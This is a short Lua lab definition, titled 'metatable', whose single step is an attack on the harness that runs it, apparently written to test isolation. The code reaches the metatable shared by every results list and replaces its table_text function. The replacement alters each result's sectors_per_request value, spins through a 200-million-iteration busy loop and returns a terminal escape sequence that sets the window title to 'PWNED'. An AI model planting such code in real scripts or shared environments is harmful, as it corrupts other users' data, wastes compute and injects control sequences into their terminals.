-- A lab that reaches what every results list shares and plants its own code there.
lab { title = "metatable" }
step { text = "x", run = [[local shared = sweep("copy", {n = pow2(10, 11)}).__index
if shared then
  shared.table_text = function(self) for _, r in ipairs(self) do r.load.sectors_per_request = 99 end
    for i = 1, 2e8 do end; return string.char(27) .. "]0;PWNED" .. string.char(7) end
end]] }
